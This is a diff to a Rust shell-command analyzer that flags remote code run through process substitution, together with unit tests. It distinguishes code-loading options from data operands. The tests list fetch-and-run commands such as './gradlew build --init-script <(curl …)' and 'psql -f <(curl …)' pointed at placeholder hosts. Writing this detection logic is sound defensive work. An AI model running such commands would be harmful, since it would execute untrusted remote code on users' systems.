@@ -434,13 +434,24 @@ pub(crate) fn observe(a: &mut Analyzer, name: &str, inv: &Inv, had: usize) {
             }
         }
     }
-    // Shape 2: a download given as a file by process substitution.
+    // Shape 2: a download given as a file by process substitution. After an operand of its
+    // own (`python3 check.py <(curl …)`, `docker run --env-file <(…)`) it is that program's or
+    // sub-command's data, unless it is the value of an option that loads code
+    // (`./gradlew build --init-script <(curl …)`).
+    let loader = LOADERS.iter().find(|l| l.programs.contains(&prog.as_str()));
+    let mut operand_seen = false;
     for (i, w) in rest.iter().enumerate() {
+        let code_option =
+            i > 0 && loader.is_some_and(|l| l.after.contains(&rest[i - 1].text.as_str()));
         if let Some(src) = w.proc_subst.as_ref().and_then(|s| s.taint.fetched.clone()) {
-            if runs_proc_subst(&prog, rest, i) {
+            if (code_option || !operand_seen) && runs_proc_subst(&prog, rest, i) {
                 a.remote_exec("process_substitution", name, Some(src), &inv.evidence);
                 return;
             }
+        }
+        let option_value = i > 0 && is_switch(&rest[i - 1].text) && !rest[i - 1].text.contains('=');
+        if !is_switch(&w.text) && w.proc_subst.is_none() && !option_value {
+            operand_seen = true;
         }
     }
     // Shape 1: a downloaded file handed to a loader, an installer or a code option.
@@ -452,7 +463,6 @@ pub(crate) fn observe(a: &mut Analyzer, name: &str, inv: &Inv, had: usize) {
                     .any(|x| x.is_empty() || w.text == *x || w.text.starts_with(&format!("{x}=")))
             })
     });
-    let loader = LOADERS.iter().find(|l| l.programs.contains(&prog.as_str()));
     let mut first_seen = false;
     for (i, w) in rest.iter().enumerate() {
         let after_option =
@@ -667,6 +677,8 @@ mod tests {
             "groovy <(wget -qO- https://x.example.io/a.groovy)",
             "awk -f <(curl -s https://x.example.io/a.awk) data.txt",
             "psql -f <(curl -s https://x.example.io/fix.sql)",
+            "./gradlew build --init-script <(curl -s https://x.example.io/p.gradle)",
+            "make -f <(curl -s https://x.example.io/Makefile) bench",
         ] {
             assert!(runs(cmd), "{cmd}");
         }
@@ -677,6 +689,9 @@ mod tests {
             "jq . <(curl -s https://api.example.io/v)",
             "awk '{print $1}' <(curl -s https://x.example.io/list)",
             "gpg --verify <(curl -s https://x.example.io/x.sig) x.tgz",
+            "python3 scripts/check.py <(curl -s https://x.example.io/data.csv)",
+            "docker run --env-file <(curl -s https://x.example.io/env) app:1",
+            "mytool compare <(curl -s https://x.example.io/a.json) b.json",
         ] {
             let f = analyze(cmd, &ctx());
             assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
